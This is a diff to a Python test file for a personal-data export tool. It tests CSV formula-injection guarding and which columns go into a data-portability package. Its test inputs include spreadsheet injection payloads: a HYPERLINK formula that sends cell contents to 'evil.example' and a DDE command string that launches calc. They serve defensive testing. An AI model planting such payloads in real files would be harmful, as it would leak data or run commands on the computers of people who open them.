@@ -3,7 +3,10 @@
 from __future__ import annotations
 
 import csv
+import datetime as dt
+import decimal
 import hashlib
+import html
 import io
 import json
 import re
@@ -14,11 +17,16 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from kept import deployment
 from kept.controller import Controller
+from kept.controls.evidence import Outcome
+from kept.controls.registry import registered
+from kept.controls.runner import run
 from kept.duties import rights
-from kept.duties.rights import Request
+from kept.duties.rights import Request, tables
 from kept.duties.rights.tables import NULL
 from kept.errors import Denied, UsageError
 from kept.terms.identifiers import parse
@@ -85,9 +93,8 @@ def _files(path: Path) -> dict[str, bytes]:
 
 
 def _bare(described: dict[str, Any], cell: str) -> str:
-    """As the description says: where its pattern matches, the first character goes."""
-    guard = described["guarded"]
-    return cell.removeprefix(guard["prefix"]) if re.match(guard["pattern"], cell) else cell
+    """As the description says: every match of its pattern goes."""
+    return re.sub(described["guarded"]["pattern"], "", cell)
 
 
 def _load(files: dict[str, bytes]) -> sqlite3.Connection:
@@ -116,6 +123,47 @@ def _load(files: dict[str, bytes]) -> sqlite3.Connection:
             database.execute(f'INSERT INTO "{one["name"]}" VALUES ({marks})', values)
     assert database.execute("PRAGMA foreign_key_check").fetchall() == []
     return database
+
+
+#: Texts of people of which a spreadsheet could make formulas, here or in another country.
+_FORMULAS = [
+    "=1+1", "+49 30 1", "-1+1|cmd", "@x", "\t=1", "\r=1", "\uff1d1", "\ufe621", "\u22121+1",
+    *(f"{skipped}=1" for skipped in "\x00\x0b\x0c \xa0\ufeff\u200b\u2028\x85\"'"),
+    'Ana;=HYPERLINK("http://evil.example/?"&A1);x', "x\";=cmd|' /C calc'!A0;\"", "plain;=1+1",
+    "a,=1", "a\t=1", "a|=1", "a\n=1", "a\r\n=1", "a; \xa0\"'=1", ";;=1", "'=1", "''=1",
+    "\\N", "'\\N",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("separator", ";,\t|")
+def test_no_spreadsheet_of_any_country_runs_what_people_wrote(separator: str) -> None:
+    out = io.StringIO()
+    columns = tables.Columns(("id", "text", "note"), None)
+    tables.write(lambda _: None, out, columns, [(1, text, "x") for text in _FORMULAS])
+    read = csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=separator)
+    skipped = '\x00\x0b\x0c \t\r\n\xa0\ufeff\u200b\u2028\x85"'
+    begun = [cell.lstrip(skipped)[:1] for row in read for cell in row]
+    assert not {*"=+-@\uff1d\ufe62\u2212"} & set(begun)
+
+
+@pytest.mark.parametrize("text", [*_FORMULAS, "'\\N\n", "-5", "'-5", "a\n\nb", "1,-5"])
+def test_what_is_guarded_is_read_back_by_the_pattern_alone(text: str) -> None:
+    pattern = tables.GUARDED["pattern"]
+    assert tables.unguarded(tables.guarded(text)) == text
+    assert re.sub(pattern, "", tables.guarded(text)) == text
+
+
+@given(st.text(alphabet="'\"=+-;,|\t\r\n \x00\ufeff\\N1a", max_size=12))
+def test_nothing_is_lost_by_guarding(text: str) -> None:
+    assert tables.unguarded(tables.guarded(text)) == text
+    assert tables.guarded(text) != NULL
+
+
+def test_numbers_stay_numbers_and_bytes_and_spans_run_nothing() -> None:
+    values = (-5, -1.5e-7, decimal.Decimal("-1E+3"), True, None)
+    assert [tables.cell(v) for v in values] == ["-5", "-1.5e-07", "-1E+3", "true", NULL]
+    odd = (b"\xfb\xff", dt.timedelta(-1), float("-inf"))
+    assert [tables.cell(v)[:2] for v in odd] == ["'+", "'-", "'-"]
 
 
 def test_another_system_loads_it_by_its_schema(controller: Controller, tmp_path: Path) -> None:
@@ -163,7 +211,84 @@ def test_nothing_inferred_bought_or_of_another_ground(
     assert left["shop.score", ("worth",), 0] == "given by others"
     assert "others of the organisation" in left["shop.score", ("words",), 1]
     # Her notes are there to answer her: an interest, neither consent nor contract.
-    assert "neither consent nor contract" in left["shop.note", (), 1]
+    (note,) = (one for one in answer.left_out if one.where == "shop.note")
+    assert (note.whole, note.rows, note.reason) == (True, 1, "ground")
+    assert note.fields == ("id", "about", "words", "at")
+
+
+def test_every_column_goes_along_or_is_named_with_why(
+    controller: Controller, scores: Path, tmp_path: Path
+) -> None:
+    """Nothing is dropped in silence: not what has no category, not what no map names."""
+    for column in ("played", "pieces", "batch", "strange", "extra"):
+        sql(scores, f"ALTER TABLE score ADD COLUMN {column} TEXT DEFAULT '{column} here'")
+    edit(scores / "shop.yml", "      clerk: {type: integer}\n", "      clerk: {type: integer}\n"
+         "      played: {origin: provided}\n      pieces: {origin: observed}\n"
+         "      batch: {origin: own}\n      strange: text\n")  # fmt: skip
+    with Controller.open(deployment.read(scores)) as again:
+        answer = _port(again, tmp_path / "along.zip")
+    files = _files(tmp_path / "along.zip")
+    rows = json.loads(files["data/shop.score.json"])
+    assert {(r["played"], r["pieces"]) for r in rows} == {("played here", "pieces here")}
+    left = {f: one.reason for one in answer.left_out
+            if one.where == "shop.score" and not one.rows for f in one.fields}  # fmt: skip
+    assert left == {
+        "worth": "others", "group": "derived", "clerk": "staff", "batch": "own",
+        "strange": "undecided", "extra": "unmapped",
+    }  # fmt: skip
+    (described,) = (one for one in json.loads(files["datapackage.json"])["resources"]
+                    if one["name"] == "shop.score")  # fmt: skip
+    origins = {f["name"]: f.get("origin") for f in described["schema"]["fields"]}
+    assert origins == {"id": None, "customer": "observed", "says": "provided",
+                       "words": "provided", "played": "provided", "pieces": "observed"}  # fmt: skip
+    # Each column of the table is in the file or among what was left out, and never in both.
+    columns = {str(r[1]) for r in sql(scores, "PRAGMA table_info(score)")}
+    assert rows[0].keys() | left.keys() == columns
+    assert not rows[0].keys() & left.keys()
+    # What the command says is what the package says, to programs and to her.
+    told = json.loads(files["answer.json"])["left_out"]
+    assert told == answer.document()["left_out"]
+    page = html.unescape(files["index.html"].decode())
+    out = page.partition("What is not in here</h2>")[2]
+    for name in (*left, "Nobody has written down yet"):
+        assert name in out, name
+    inside = page.partition("What is in here</h2>")[2].partition("What is not in here")[0]
+    assert all(f"<code>{name}</code>" in inside for name in rows[0])
+    assert set(re.findall(r'href="([^"#:]+)"', page)) <= files.keys()
+
+
+def test_a_dataset_may_say_it_for_its_fields(
+    controller: Controller, scores: Path, tmp_path: Path
+) -> None:
+    """The field's own word counts first, then its category's, then its dataset's."""
+    sql(scores, "ALTER TABLE score ADD COLUMN played TEXT DEFAULT 'played here'")
+    edit(scores / "shop.yml", "    title: Scores\n", "    title: Scores\n    origin: observed\n")
+    edit(scores / "shop.yml", "      clerk: {type: integer}\n",
+         "      clerk: {type: integer}\n      played: text\n")  # fmt: skip
+    with Controller.open(deployment.read(scores)) as again:
+        _port(again, tmp_path / "seen.zip")
+    rows = json.loads(_files(tmp_path / "seen.zip")["data/shop.score.json"])
+    # The category still knows better: `worth` was bought.
+    assert rows[0].keys() == {"id", "customer", "says", "words", "played"}
+    # A dataset's word, whichever it is, is for what has no category.
+    edit(scores / "shop.yml", "    origin: observed\n", "    origin: own\n")
+    with Controller.open(deployment.read(scores)) as again:
+        answer = _port(again, tmp_path / "noted.zip")
+        rows = json.loads(_files(tmp_path / "noted.zip")["data/shop.score.json"])
+        assert rows[0].keys() == {"id", "customer", "says", "words"}
+        left = {f: one.reason for one in answer.left_out
+                if one.where == "shop.score" and not one.rows for f in one.fields}  # fmt: skip
+        assert left == {"played": "own", "worth": "others", "group": "derived", "clerk": "staff"}
+        (known,) = run(again, registered(), NOW, names=["rights.what-is-portable-is-known"])
+        assert known.outcome is Outcome.PASS, known.findings
+    # A list that was bought says so at its fields.
+    for before in ("{category: contact.company}", "{category: free-text, free_text: true}"):
+        edit(scores / "shop.yml", before, before.replace("}", ", origin: others}"))
+    with Controller.open(deployment.read(scores)) as again:
+        answer = _port(again, tmp_path / "bought.zip")
+    assert "data/shop.score.json" not in _files(tmp_path / "bought.zip")
+    (score,) = (one for one in answer.left_out if one.where == "shop.score")
+    assert (score.whole, score.reason) == (True, "nothing")
 
 
 def test_what_the_row_says_of_its_ground_counts(
